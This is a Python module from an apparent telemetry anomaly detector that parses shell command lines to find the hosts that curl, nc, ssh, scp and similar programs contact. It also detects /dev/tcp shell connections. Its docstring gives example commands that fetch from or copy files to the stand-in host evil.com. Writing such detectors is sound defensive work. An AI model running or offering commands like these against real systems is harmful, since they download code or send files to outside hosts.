r"""Hosts in command lines, `cd /x && curl -sS -o out evil.com/a`, and behind `"//`.

A bare name in running text is no destination: every second word with a dot would be one. Behind a
program that takes hosts it is. A table in `command_lines` says which programs these are, where each
of them expects a host, and which letters of its options take a value (`-o out.sh` names a file).

    EVERY    each word may be one                curl evil.com/x, nc evil.com 443, dig evil.com
    FIRST    the first word; a command follows   ssh -p 22 me@evil.com curl other.com
    REMOTE   what stands before a colon          scp f evil.com:/tmp, git clone evil.com:repo
    OPTION   the value of an option              psql -h evil.com, mysql --host=evil.com

A program counts where a command begins: at the start of a value, a line or a quoted text, behind
; & | ( and a backtick, and behind wrappers (sudo, env, bash -c, xargs, docker exec, ...). What a
quoted text starts ends with it: `curl -d "x; y" evil.com` still calls evil.com.

This is read only where a word looks like a host by itself, with a top-level domain or as four
numbers, and each byte once: `reading` is how far, and in what state. So text without such a word
costs nothing.

Blind to: names without a dot, addresses as one number and in IPv6, names that variables, `$(..)`
or quotes in the middle of them hide; programs that are not listed; other syntax (socat).
"""

from __future__ import annotations

from typing import Final

import numpy as np

from otel_anomaly.kernels import (
    BLOCK,
    Array,
    Int,
    Record,
    between,
    borrow,
    inlined,
    kernel,
    load1,
    room,
)
from otel_anomaly.otlp.characters import (
    ALNUM,
    DASH,
    DIGIT,
    DOT,
    HIGH,
    LETTER,
    LOCAL,
    UNDERSCORE,
    WORD,
    holds,
    kind_at,
    lowest,
    span_of,
    word_at,
)
from otel_anomaly.otlp.command_lines import (
    BEGINNINGS,
    DIG,
    EVERY,
    FIRST,
    FLAGS,
    FRESH,
    HOST_NOW,
    LONG_NOW,
    NAMES,
    NESTED,
    NOT_BEGUN,
    NOTHING,
    PORTS,
    PROGRAM_MAX,
    QUOTE_SHIFT,
    REMOTE,
    ROW_SHIFT,
    SKIP_NOW,
    WHERE,
    end_of_word,
    read_to,
)
from otel_anomaly.otlp.found import ASIDE
from otel_anomaly.otlp.hashing import load_rest
from otel_anomaly.otlp.host_names import HOST_BYTES, normal_host
from otel_anomaly.otlp.mails import FILES, begins_name, is_quad
from otel_anomaly.otlp.top_levels import is_top_level
from otel_anomaly.otlp.urls import add_host, read_port

_NAME_MAX: Final = 253
_DOMAIN: Final = ALNUM | DASH | DOT | HIGH
_USER: Final = ALNUM | DOT | UNDERSCORE | DASH | LOCAL | HIGH
_HOST_IS: Final = int.from_bytes(b"--host=", "little")


@kernel
def _may_lead(text: Array, low: Int, end: Int) -> bool:
    """Whether a value holds the name of a program that takes hosts, or `"//`.

    Source code is full of words that look like hosts, and read as commands it would cost five
    times what this does.
    """
    text = borrow(text)
    before = np.int64(0)
    for block in range(low, end - 1, BLOCK):
        starts, slashes, before = _starts_and_slashes(text, block, end - 1, before)
        while starts != 0:
            i = block + lowest(starts)
            second = load1(text, i + 1) & 31
            if _is_device(text, low, i + 4):
                return True
            if load1(BEGINNINGS, load1(text, i) & 31) >> second & 1 != 0:
                stop = span_of(text, i, min(end, i + PROGRAM_MAX), WORD | DASH)
                if holds(NAMES, word_at(text, i, stop)):
                    return True
            starts &= starts - 1
        while slashes != 0:
            i = block + lowest(slashes)
            if load1(text, i + 1) == 47 and _is_slashed(text, low, i + 2):
                return True
            slashes &= slashes - 1
    return False


@inlined
def _starts_and_slashes(text: Array, at: Int, end: Int, before: Int) -> tuple[Int, Int, Int]:
    """Where in a block a word begins with a letter, and where a slash stands before another.

    `before`: 1 when the byte before the block belongs to a word; returned for the next one as well.
    """
    letters, words, slashes = np.int64(0), np.int64(0), np.int64(0)
    if at + BLOCK <= text.size:
        letters = between(text, at, 97, 122) | between(text, at, 65, 90)
        words = letters | between(text, at, 48, 57) | between(text, at, 95, 95)
        slashes = between(text, at, 47, 47)
        if end - at < BLOCK:
            inside = (np.int64(1) << (end - at)) - 1
            letters, slashes = letters & inside, slashes & inside
        slashes &= slashes >> 1 | np.int64(1) << min(BLOCK, end - at) - 1
    else:
        for i in range(at, min(at + BLOCK, end)):
            kind, bit = kind_at(text, i), np.int64(1) << (i - at)
            letters |= bit if kind & LETTER != 0 else np.int64(0)
            words |= bit if kind & WORD != 0 else np.int64(0)
            slashes |= bit if load1(text, i) == 47 else np.int64(0)
    return letters & ~(words << 1 | before), slashes, words >> (BLOCK - 1) & 1


@kernel
def read_command(text: Array, low: Int, at: Int, end: Int, reading: Int) -> Int:
    """The reading up to the word that holds `at`: what `in_command` is asked about."""
    text = borrow(text)
    if reading == NOTHING or (reading == NOT_BEGUN and not _may_lead(text, low, end)):
        return NOTHING
    _, reading = read_to(text, low, at, end, reading)
    return reading


@inlined
def in_command(reading: Int) -> bool:
    """Whether the word read up to stands behind a program that takes hosts."""
    return reading != NOTHING and (reading >> ROW_SHIFT) & 63 != 0


@inlined
def host_around(
    text: Array, low: Int, sign: Int, end: Int, reading: Int, plan: Record, found: Record
) -> tuple[Int, Int, Int]:
    """The host around the dot, or behind the @, at `sign`, where a command or `//` says it is one.

    Returns (the position behind it, or 0; up to where no sign need be looked at; the reading).
    """
    begin, stop, named = name_around(text, low, sign, end)
    if named:
        return command_host(text, low, begin, stop, end, reading, plan, found)
    return np.int64(0), stop, reading


@inlined
def may_name_host(text: Array, low: Int, dot: Int, end: Int) -> bool:
    """Whether a dot may stand in a host, or one follows an @.

    Letters or digits are on both sides of the dot, and of numbers there are more than two.
    """
    if load1(text, dot) == 64:
        return begins_name(text, dot + 1, end)
    if dot == low or dot + 1 >= end or kind_at(text, dot - 1) & (ALNUM | HIGH) == 0:
        return False
    kind = kind_at(text, dot + 1)
    if kind & DIGIT == 0:
        return kind & (LETTER | HIGH) != 0
    stop = span_of(text, dot + 2, min(end, dot + 4), ALNUM | DASH | HIGH)
    return stop < end and load1(text, stop) == 46


@kernel
def _end_of_host(text: Array, at: Int, stop: Int, end: Int, strict: bool) -> Int:
    """The position behind the host whose letters are [at, stop), or -1 when it looks like none.

    `strict`: neither does a name that may be a file's, `notes.md`.
    """
    text = borrow(text)
    if stop - at > _NAME_MAX or stop == at or kind_at(text, at) & (ALNUM | HIGH) == 0:
        return np.int64(-1)
    follows = load1(text, stop) if stop < end else np.int64(0)
    if follows == 64 or follows == 61 or follows == 95 or follows == 36 or follows == 40:
        return np.int64(-1)
    behind = stop
    if load1(text, stop - 1) == 46:
        stop -= 1
    last = at
    for i in range(at, stop):
        if load1(text, i) == 46:
            if i == at or load1(text, i - 1) == 46:
                return np.int64(-1)
            last = i + 1
    if last == at:
        return np.int64(-1)
    if kind_at(text, stop - 1) & DIGIT != 0:
        return behind if is_quad(text, at, stop) else np.int64(-1)
    if not is_top_level(text, last, stop):
        return np.int64(-1)
    bare = follows != 47 and follows != 58
    if strict and bare and holds(FILES, word_at(text, last, stop)):
        return np.int64(-1)
    return behind


@kernel
def name_around(text: Array, low: Int, sign: Int, end: Int) -> tuple[Int, Int, bool]:
    """(begin, end, whether it may be a host) of the name around the dot, or behind the @, there.

    What can stand in no command is ruled out here, without a look at the command.
    """
    text = borrow(text)
    begin = sign + 1
    if load1(text, sign) == 46:
        begin = sign
        while begin > low and kind_at(text, begin - 1) & _DOMAIN != 0:
            begin -= 1
    stop = span_of(text, begin, end, _DOMAIN)
    if begin == low:
        return begin, stop, False
    before = load1(text, begin - 1)
    if kind_at(text, begin - 1) & WORD != 0 or before == 58 or before == 46:
        return begin, stop, False
    if before == 47 and not (_is_slashed(text, low, begin) or _is_device(text, low, begin)):
        return begin, stop, False
    return begin, stop, _end_of_host(text, begin, stop, end, strict=False) >= 0


@kernel
def command_host(
    text: Array,
    low: Int,
    begin: Int,
    stop: Int,
    end: Int,
    reading: Int,
    plan: Record,
    found: Record,
) -> tuple[Int, Int, Int]:
    """`host_around` for the name [begin, stop), which may be a host."""
    text = borrow(text)
    if reading == NOT_BEGUN and not _may_lead(text, low, end):
        return np.int64(0), stop, NOTHING
    if _is_device(text, low, begin):
        port = np.int64(0)
        if stop < end and load1(text, stop) == 47:
            port = read_port(text, stop + 1, end, port)
        _add(text, begin, stop, end, port, np.int64(ASIDE), plan, found)
        return stop, stop, reading
    if load1(text, begin - 1) == 47:
        if _end_of_host(text, begin, stop, end, strict=True) < 0:
            return np.int64(0), stop, reading
        _add(text, begin, stop, end, np.int64(0), np.int64(ASIDE), plan, found)
        return stop, stop, reading
    word, reading = read_to(text, low, begin, end, reading)
    behind = max(stop, end_of_word(text, word, end))
    if not _is_meant(text, word, begin, stop, end, reading):
        return np.int64(0), behind, reading
    port = PORTS[(reading >> ROW_SHIFT) & 63]
    _add(text, begin, stop, end, port, np.int64(ASIDE), plan, found)
    return stop, behind, reading


_DEVICE: Final = int.from_bytes(b"dev/", "little")


@inlined
def _is_device(text: Array, low: Int, at: Int) -> bool:
    """Whether `/dev/tcp/` or `/dev/udp/` stands before `at`: the shell connects to what follows."""
    if at - low < 9 or at > text.size or load1(text, at - 1) != 47 or load1(text, at - 9) != 47:
        return False
    if load_rest(text, at - 8, np.int64(4)) != _DEVICE or load1(text, at - 2) != 112:
        return False
    third, second = load1(text, at - 4), load1(text, at - 3)
    return (third == 116 and second == 99) or (third == 117 and second == 100)


@inlined
def _is_slashed(text: Array, low: Int, at: Int) -> bool:
    """Whether `"//`, `(//` or `=//` stands before `at`."""
    if at - low < 3 or load1(text, at - 2) != 47:
        return False
    byte = load1(text, at - 3)
    return byte == 34 or byte == 39 or byte == 96 or byte == 40 or byte == 61


@kernel
def slashed_host(text: Array, at: Int, end: Int, plan: Record, found: Record) -> bool:
    """Add the host of a value `//host/path`, which is a URL without its scheme."""
    text = borrow(text)
    if end - at < 4 or (load1(text, at) == 92 and load1(text, at + 1) == 92):
        return False
    for i in range(at, at + 2):
        if load1(text, i) != 47 and load1(text, i) != 92:
            return False
    run_end = span_of(text, at + 2, end, _DOMAIN)
    stop = _end_of_host(text, at + 2, run_end, end, strict=True)
    if stop < 0 or (stop < end and load1(text, stop) <= 32):
        return False
    _add(text, at + 2, stop, end, np.int64(0), np.int64(0), plan, found)
    return True


@kernel
def _add(
    text: Array, at: Int, stop: Int, end: Int, port: Int, aside: Int, plan: Record, found: Record
) -> None:
    """Add the host [at, stop); a port may follow it."""
    text = borrow(text)
    if end - stop > 1 and load1(text, stop) == 58:
        port = read_port(text, stop + 1, end, port)
    host = room(HOST_BYTES)
    length, what, high, low_half = normal_host(text, at, stop, host)
    add_host(host, length, what, high, low_half, port, aside, plan, found)


@kernel
def _is_meant(text: Array, word: Int, at: Int, stop: Int, end: Int, reading: Int) -> bool:
    """Whether the host [at, stop) in the word that begins at `word` is where the command goes."""
    text = borrow(text)
    row, flags = (reading >> ROW_SHIFT) & 63, reading & FLAGS
    if row == 0 or flags & SKIP_NOW != 0:
        return False
    quoted = reading >> QUOTE_SHIFT & 255 != 0 and flags & (NESTED | FRESH) == 0
    if quoted:
        return False
    where, named = WHERE[row], np.int64(0)
    if at - word == 7 and load_rest(text, word, np.int64(7)) == _HOST_IS:
        return True
    if at > word:
        if load1(text, at - 1) != 64 or (at - word == 1 and row != DIG):
            return False
        named = span_of(text, word, at - 1, _USER | ALNUM)
        while named < at - 1 and load1(text, named) == 58:
            named = span_of(text, named + 1, at - 1, _USER | ALNUM)
        if named < at - 1:
            return False
    if flags & HOST_NOW != 0:
        return True
    if where == REMOTE:
        return stop < end and load1(text, stop) == 58
    if where == EVERY and flags & LONG_NOW != 0:
        return _end_of_host(text, at, stop, end, strict=True) > 0
    return where == EVERY or where == FIRST
